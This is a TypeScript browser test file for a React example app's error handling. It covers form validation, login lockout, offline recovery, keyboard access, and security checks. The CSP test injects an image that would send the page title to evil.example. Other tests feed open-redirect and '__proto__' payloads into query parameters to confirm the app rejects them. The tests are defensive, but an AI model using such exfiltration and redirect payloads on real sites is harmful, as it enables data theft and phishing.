/** What examples/react says when something is wrong, and what it runs under. */
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { describeInChromium } from './chromium.ts'
import { PASSWORD } from './served-bundle.ts'
import { heading, signIn, submit, useExample } from './served-example.ts'

/** After so many wrong passwords an account has to wait. */
const WRONG_PASSWORDS = 10

describeInChromium('the example, when something is wrong,', (launch) => {
  const { at, open, problems, register, logIn } = useExample(launch)

  /** What a screen reader says to a field beside its label. */
  async function described(page: Page, label: string) {
    const ids = await page.getByLabel(label, { exact: true }).getAttribute('aria-describedby')
    const texts = (ids ?? '').split(' ').map((id) => page.locator(`[id="${id}"]`).textContent())
    return (await Promise.all(texts)).join(' ')
  }

  async function signedIn(path: string) {
    const account = await register()
    const { page, context } = await open(path)
    await signIn(page, account.username)
    await page.getByRole('button', { name: 'Log out' }).waitFor()
    return { ...account, page, context }
  }

  test('every page has a policy that allows nothing but its own files and the service', async () => {
    const { headers } = await fetch(at('/sessions'))
    const policy = headers.get('Content-Security-Policy')?.split('; ') ?? []
    expect(policy.filter((directive) => /unsafe|\*|data:/.test(directive))).toEqual([])
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("script-src 'self'")

    const { page } = await open('/sign-in')
    await page.evaluate(`document.body.append(
      Object.assign(document.createElement('img'), { src: 'https://evil.example/?' + document.title }),
    )`)
    await expect.poll(() => problems.length).toBeGreaterThan(0)
    expect(problems.splice(0).join()).toContain('Content Security Policy')
  })

  test('an empty form says what to enter, and focuses the first field', async () => {
    const { page } = await open('/register')
    await page.getByRole('button', { name: 'Create account' }).click()
    expect(await described(page, 'Username')).toBe('Enter your username.')
    expect(await described(page, 'Email')).toBe('Enter your email.')
    expect(await page.evaluate('document.activeElement.name')).toBe('username')
  })

  test('/register says what is wrong with which field', async () => {
    const { username, email } = await register()
    const { page } = await open('/register')
    const send = (values: Record<string, string>) => submit(page, values, 'Create account')
    await send({ Username: 'ab', Email: 'nobody', Password: 'short' })
    expect(await described(page, 'Username')).toBe('Use at least 3 characters.')
    expect(await described(page, 'Email')).toContain('Enter an email address')
    expect(await described(page, 'Password')).toContain('Use at least 8 characters.')

    await send({ Username: username, Email: `new-${email}`, Password: PASSWORD })
    await page.getByText('This username is taken.').waitFor()
    expect(await described(page, 'Username')).toBe('This username is taken.')
    await send({ Username: `${username}-2`, Email: email })
    await page.getByText('There is an account with this email already.').waitFor()
    await send({ Email: `new-${email}`, Password: 'password' })
    await page.getByText('Many people use this password. Choose another.').waitFor()
    await send({ Password: `${username}-2` })
    await page.getByText('Choose a password that is not a name of yours.').waitFor()
  })

  test('/password says which of the two is wrong', async () => {
    const { page } = await signedIn('/password')
    const send = (current: string, chosen: string) =>
      submit(page, { 'Current password': current, 'New password': chosen }, 'Change password')
    await send('not this one', 'a sentence of my own')
    await page.getByText('This is not your current password.').waitFor()
    expect(await described(page, 'Current password')).toBe('This is not your current password.')
    await send(PASSWORD, PASSWORD)
    await page.getByText('This is your current password.').waitFor()
    expect(await described(page, 'New password')).toContain('This is your current password.')
  })

  test('too many attempts say how long to wait', async () => {
    const { username } = await register()
    for (let i = 0; i < WRONG_PASSWORDS; i++) await logIn(username, 'not this one')
    const { page } = await open('/sign-in')
    await signIn(page, username)
    await page.getByText(/^Too many attempts\. Try again in 1?\d minutes\.$/).waitFor()
  })

  test('offline is told; what was typed stays, and can be sent later', async () => {
    const { page, context, username } = await signedIn('/profile')
    await heading(page, 'Profile')
    await context.setOffline(true)
    await page.getByText('You are offline. Nothing can be saved.').waitFor()
    await submit(page, { 'Full name': 'Ada Lovelace' }, 'Save')
    await page.getByText('You are offline. Try again when you are connected.').waitFor()
    await page.getByRole('link', { name: 'Sessions' }).click()
    await page.getByRole('button', { name: 'Try again' }).waitFor()
    await context.setOffline(false)
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByText('You are signed in nowhere else.').waitFor()
    expect(problems.splice(0).every((line) => line.includes('ERR_INTERNET_DISCONNECTED'))).toBe(
      true,
    )
    expect(await logIn(username, PASSWORD)).toBe(200)
  })

  test('?next= leads to no other site', async () => {
    const { username } = await register()
    const { page } = await open('/sign-in?next=https://evil.example/')
    await signIn(page, username)
    await heading(page, 'Profile')
    const user = at('/sessions').replace('//', '//evil@')
    for (const next of ['//evil.example/', `blob:${at('/sessions')}`, user]) {
      await page.goto(`/sign-in?next=${next}`)
      await heading(page, 'Profile')
      expect(page.url()).toBe(at('/profile'))
    }
    await page.goto('/sign-in?next=/.//evil.example/')
    await heading(page, 'Page not found')
    expect(page.url()).toBe(at('//evil.example/'))
  })

  test('?notice= shows what it names, and nothing else', async () => {
    const { page } = await open('/sign-in?notice=registered')
    await page.getByText('Your account is ready.').waitFor()
    for (const notice of ['evil', '__proto__', 'constructor']) {
      await page.goto(`/sign-in?notice=${notice}`)
      await heading(page, 'Sign in')
      expect(await page.getByRole('status').filter({ hasText: /./ }).count()).toBe(0)
    }
  })

  test('a link without a token, and an address without a page, lead on', async () => {
    const { page } = await open('/reset-password')
    await heading(page, 'This link is incomplete')
    await page.goto('/nowhere')
    await heading(page, 'Page not found')
    await page.getByRole('link', { name: 'Go to your account' }).click()
    await heading(page, 'Sign in')
  })

  test('everything works with a keyboard alone', async () => {
    const { username } = await register()
    const { page } = await open('/sign-in')
    await heading(page, 'Sign in')
    const focused = () =>
      page.evaluate<string>(
        `document.activeElement.name || document.activeElement.textContent.trim()`,
      )
    const order: string[] = []
    for (let i = 0; i < 6; i++) {
      await page.keyboard.press('Tab')
      order.push(await focused())
    }
    expect(order).toEqual(['Acme', 'username', 'Forgot it?', 'password', 'Show', 'Sign in'])
    await page.getByLabel('Username or email').focus()
    await page.keyboard.type(username)
    await page.getByLabel('Password', { exact: true }).focus()
    await page.keyboard.type(PASSWORD)
    await page.keyboard.press('Enter')
    await heading(page, 'Profile')
    expect(await page.evaluate('document.activeElement.tagName')).toBe('H1')
  })
})
